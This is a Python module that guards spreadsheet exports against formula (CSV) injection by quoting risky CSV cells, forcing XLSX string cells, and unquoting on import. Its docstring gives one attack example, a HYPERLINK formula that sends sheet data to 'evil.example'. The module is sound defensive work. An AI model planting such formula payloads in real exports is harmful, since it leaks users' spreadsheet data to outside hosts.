"""Spreadsheet-safe cells: text that a spreadsheet would run as a formula is exported as inert text, and read back.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be taken for a formula by
Excel, LibreOffice or Google Sheets (CSV injection: ``=HYPERLINK("http://evil.example/?x="&A1,"x")`` sends the
sheet's data away on a click). Exports carry what people and machines typed (an item's name, a failed login's
email), so every exporter writes its cells through here (docs/decisions/0008-spreadsheet-safe-exports.md):

- CSV: such a text gets a single quote in front (OWASP's advice): ``'=HYPERLINK(...)`` is shown as text.
- XLSX: every text is a string cell, never a formula, whatever it starts with; nothing is added to it.
- Numbers (``int``, ``Decimal``, ``float`` values, not text) stay numbers: -5 is not a formula.
- Importing removes exactly that quote (``unquote``): a text that starts with ``'`` followed by one of those
  characters loses the ``'``. So that export and import give back the same text byte for byte, a text that already
  starts with quotes before such a character gets one more quote, in CSV and XLSX alike (``'=x`` is exported as
  ``''=x`` and read back as ``'=x``).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = re.compile(r"'*[=+\-@\t\r]")  # text a spreadsheet would run, or that reads back as such once unquoted
_QUOTED = re.compile(r"'+[=+\-@\t\r]")  # text that loses its first quote when imported


def is_number(value: object) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_text(text: str) -> str:
    """``text`` as a CSV cell: quoted when a spreadsheet could take it for a formula (or when it would lose a quote
    it has when read back)."""
    return "'" + text if _FORMULA.match(text) else text


def xlsx_text(text: str) -> str:
    """``text`` as an XLSX string cell: as it is, but for the quote that keeps the round trip exact."""
    return "'" + text if _QUOTED.match(text) else text


def unquote(text: str) -> str:
    """An imported cell's text: the quote an export added removed (the exact inverse of both)."""
    return text[1:] if _QUOTED.match(text) else text


def csv_cell(value: Any, number: Callable[[Any], str] = str) -> Any:
    """A value as ``csv.writer`` should get it: empty as it is, a number as ``number`` writes it, anything else as
    safe text."""
    if value is None:
        return value
    if is_number(value):
        return number(value)
    return csv_text(value if isinstance(value, str) else str(value))


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``csv_cell`` (``number``: how a number is written)."""

    def __init__(self, out: Any, *, number: Callable[[Any], str] = str, **kwargs: Any):
        self._writer, self._number = csv.writer(out, **kwargs), number

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value, self._number) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}  # of each format ``write`` makes


def csv_writer(out: Any, *, number: Callable[[Any], str] = str, **kwargs: Any) -> SafeWriter:
    """The CSV writer of every export: ``csv.writer(out, **kwargs)``, spreadsheet-safe."""
    return SafeWriter(out, number=number, **kwargs)


def write(fmt: str, headers: list[str], rows: Iterable[Iterable[Any]], *, text: Callable[[Any], str],
          numeric_cells: bool) -> bytes:  # fmt: skip
    """A CSV or XLSX file of ``rows`` under ``headers``, every text spreadsheet-safe; ``text`` writes a value as
    text (and, in CSV, a number). In XLSX a number is a number cell when ``numeric_cells`` (a report, to be summed in
    the sheet), else a text cell with its exact digits (an export that is imported back: "007" stays a code)."""
    if fmt == "csv":
        lines = io.StringIO(newline="")
        writer = csv_writer(lines, number=text, lineterminator="\r\n")
        writer.writerow(headers)
        for row in rows:
            writer.writerow([v if v is None or is_number(v) else text(v) for v in row])
        return lines.getvalue().encode("utf-8")
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook(write_only=True)
    sheet = book.create_sheet()

    def cell(value: Any) -> Any:
        if numeric_cells and is_number(value):
            return WriteOnlyCell(sheet, value=value)
        written = text(value)
        if not is_number(value):  # control characters no XLSX file can hold become U+FFFD
            written = xlsx_text(ILLEGAL_CHARACTERS_RE.sub("\ufffd", written))
        made = WriteOnlyCell(sheet, value=written)
        made.data_type = "s"  # never a formula: openpyxl takes a text starting with "=" for one
        return made

    sheet.append([cell(h) for h in headers])
    for row in rows:
        sheet.append([cell(v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
